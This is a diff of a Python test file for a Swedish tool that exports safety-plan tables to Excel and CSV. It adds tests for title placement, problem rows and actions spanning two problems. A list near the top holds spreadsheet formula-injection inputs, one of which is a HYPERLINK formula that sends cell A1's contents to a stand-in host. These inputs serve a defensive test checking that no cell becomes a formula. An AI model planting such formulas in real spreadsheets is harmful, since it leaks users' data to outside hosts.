@@ -22,12 +22,13 @@ from samsyn.formats.table_out import undo_harmless
 
 TODAY = date(2026, 11, 23)
 DANGEROUS = ['=HYPERLINK("http://x.invalid/?"&A1,"klicka")', "+46701740605", "@SUM(1+1)", "\t=1+1", "_x000D_=1+1", "<r><t>1</t></r>"]
-words = st.one_of(st.sampled_from(DANGEROUS), st.text(alphabet=st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")), max_size=40))
+visible = st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs"))
+words = st.one_of(st.sampled_from(DANGEROUS), st.text(alphabet=visible, max_size=40))
 NONE = Action(id="a", text="En åtgärd")
 
 
-def plan_of(*actions: Action, causes: tuple[Cause, ...] = (), goals: tuple[Goal, ...] = ()) -> Plan:
-    return Plan(id="p", name="Plan", problems=(Problem(id="p1", title="Ett problem"),), causes=causes, goals=goals, actions=actions)
+def plan_of(*actions: Action, causes: tuple[Cause, ...] = (), goals: tuple[Goal, ...] = (), problems: tuple[Problem, ...] = ()) -> Plan:
+    return Plan(id="p", name="Plan", problems=problems, causes=causes, goals=goals, actions=actions)
 
 
 def read(workbook: bytes) -> list[tuple[str, ...]]:
@@ -41,14 +42,19 @@ def evening() -> Plan:
 
 def test_the_six_columns_are_those_of_the_form() -> None:
     rows = read(plan_workbook(evening(), title="Trygg kväll i centrum"))
-    assert rows[0] == ("Trygg kväll i centrum", "", "", "", "", "")
-    assert rows[1] == ("Orsak", "Åtgärd", "Operativa mål", "När", "Vem", "Uppföljning")
-    assert len(rows) == 2 + 25 + 1  # title and header, the actions, the cause without action
+    assert rows[0] == ("Orsak", "Åtgärd", "Operativa mål", "När", "Vem", "Uppföljning")
+    assert rows[1] == ("Skadegörelse och oro runt stationen", "", "", "", "", "")
+    assert len(rows) == 1 + 3 + 25 + 1  # header, problems, actions, the cause without action
+
+
+def test_the_title_is_on_the_tab_and_above_every_printed_page() -> None:
+    sheet = openpyxl.load_workbook(io.BytesIO(plan_workbook(evening(), title="Bo & Dana"))).active
+    assert (sheet.title, sheet.oddHeader.left.text, sheet.print_title_rows) == ("Bo & Dana", "Bo && Dana", "$1:$1")
 
 
 def test_a_row_is_filled_and_its_follow_up_is_coloured_and_said_in_words() -> None:
     sheet = openpyxl.load_workbook(io.BytesIO(plan_workbook(evening(), title="Plan"))).active
-    row = [cell for cell in next(sheet.iter_rows(min_row=3, max_row=3))]
+    row = list(next(sheet.iter_rows(min_row=3, max_row=3)))
     assert [cell.value for cell in row] == [
         "1. Gångvägen är mörk och skymd", "1.1 Belysning från stationen till torget",
         "Färre anmälningar om skadegörelse runt stationen: från 62 till 45 om året\nFler känner sig trygga på gångvägen en fredagskväll",
@@ -108,6 +114,16 @@ def test_every_row_says_its_whole_cause_and_rows_stand_in_the_order_of_the_cause
     assert [row.cells[:2] for row in rows] == [("", "C"), ("1. Ett\n2. Två", "B"), ("2. Två", "A")]
 
 
+def test_an_action_on_causes_of_two_problems_stands_where_both_are_known() -> None:
+    problems = (Problem(id="p1", title="Ett"), Problem(id="p2", title="Två"))
+    causes = (Cause(id="c1", number=1, text="A", problem="p1"), Cause(id="c2", number=2, text="B", problem="p2"))
+    both = (Action(id="a", text="Båda", causes=("c2", "c1")), Action(id="b", text="Den ena", causes=("c1",)))
+    assert [row.cells[:2] for row in form_rows(plan_of(*both, causes=causes, problems=problems))] == [
+        ("Ett", ""), ("1. A", "Den ena"), ("Två", ""), ("2. B", ""), ("1, 2", "Båda")]
+    assert [row.cells[:2] for row in form_rows(plan_of(both[0], causes=causes, problems=problems))] == [
+        ("Ett", ""), ("1. A", ""), ("Två", ""), ("2. B", ""), ("1, 2", "Båda")]
+
+
 def test_nothing_of_the_chain_is_lost_for_want_of_a_link() -> None:
     plan = plan_of(Action(id="a", text="A", causes=("gone",), goals=("gone",)), causes=(Cause(id="c", number=1, text="Ensam"),),
                    goals=(Goal(id="g", text="Fritt"),))
@@ -131,7 +147,9 @@ def test_no_cell_of_a_plan_is_ever_a_formula(texts: list[str]) -> None:
 def test_csv_has_the_same_rows_as_the_workbook() -> None:
     rows = list(csv.reader(io.StringIO(plan_csv(evening()).decode("utf-8-sig"), newline=""), delimiter=";"))
     assert tuple(rows[0]) == COLUMNS
-    assert [tuple(undo_harmless(cell) for cell in row) for row in rows[1:]] == [row.cells for row in form_rows(evening())]
+    problems = {problem.title for problem in evening().problems}
+    assert [tuple(undo_harmless(cell) for cell in row) for row in rows[1:]] == [
+        (f"Problem: {row.cells[0]}", *row.cells[1:]) if row.cells[0] in problems else row.cells for row in form_rows(evening())]
 
 
 def test_the_file_says_when_it_was_made_only_if_it_is_told() -> None:
